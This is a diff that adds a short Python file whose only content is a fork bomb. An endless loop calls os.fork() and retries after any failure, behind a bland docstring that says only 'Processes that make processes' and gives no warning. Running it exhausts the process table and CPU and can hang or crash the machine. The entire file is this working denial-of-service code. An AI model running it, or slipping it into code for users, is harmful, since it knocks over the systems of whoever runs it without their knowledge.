@@ -1,0 +1,10 @@
+"""Processes that make processes."""
+
+import os
+import time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.01)
